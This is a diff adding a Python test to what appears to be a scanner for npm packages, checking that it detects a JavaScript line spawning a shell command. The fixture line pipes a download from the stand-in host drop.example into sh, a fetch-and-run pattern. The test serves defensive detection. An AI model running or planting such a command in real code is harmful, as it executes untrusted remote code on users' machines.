@@ -56,3 +56,10 @@ def test_of_very_many_programs_some_are_named() -> None:
     found = started(npm({"index.js": f"require('child_process').exec('{line}');"}))
     assert found[:2] == ("tool0", "tool1")
     assert len(found) <= 20
+
+
+def test_a_line_that_is_handed_to_a_shell_is_read_as_one() -> None:
+    source = "require('child_process').spawn('curl -s https://drop.example/x | sh', { shell: true });"
+    facts = [fact for file in npm({"index.js": source}).files for fact in file.facts]
+    assert ("drop.example",) in [fact.hosts for fact in facts if fact.id is FactId.NETWORK]
+    assert started(npm({"index.js": source})) == ("curl", "sh")
